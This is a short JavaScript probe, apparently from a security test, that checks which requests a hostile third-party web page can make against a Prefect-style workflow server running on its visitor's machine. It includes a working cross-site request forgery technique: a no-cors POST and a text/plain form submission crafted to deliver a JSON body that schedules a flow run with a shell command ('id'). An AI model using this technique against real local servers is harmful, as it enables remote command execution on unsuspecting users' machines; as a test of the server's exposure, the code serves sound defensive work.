// What a page of another site may try against a server on its visitor's machine; which of it got an answer.
async ({ server, deployment }) => {
  const start = `${server}/api/deployments/${deployment}/create_flow_run`;
  const run = JSON.stringify({ name: "stranger", state: { type: "SCHEDULED" }, job_variables: { command: "id" } });
  const attempts = {
    json: () => fetch(start, { method: "POST", headers: { "content-type": "application/json" }, body: run }),
    read: () => fetch(`${server}/api/flow_runs/filter`, { method: "POST", body: "{}" }),
    settings: () => fetch(`${server}/ui-settings`),
    socket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`${server.replace("http", "ws")}/api/events/in`, ["prefect"]);
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
  };
  const answered = [];
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      answered.push(name);
    } catch {}
  }
  // Their answers no page can read; what they would have done, the server can tell.
  await fetch(start, { method: "POST", mode: "no-cors", body: run }).catch(() => {});
  const form = document.createElement("form");
  Object.assign(form, { method: "POST", action: start, enctype: "text/plain", target: "frame" });
  form.innerHTML = `<input name='${run.slice(0, -1)}, "x": "' value='"}'>`;
  const frame = Object.assign(document.createElement("iframe"), { name: "frame" });
  document.body.append(frame, form);
  const loaded = new Promise((resolve) => (frame.onload = resolve));
  form.submit();
  await loaded;
  return answered;
}
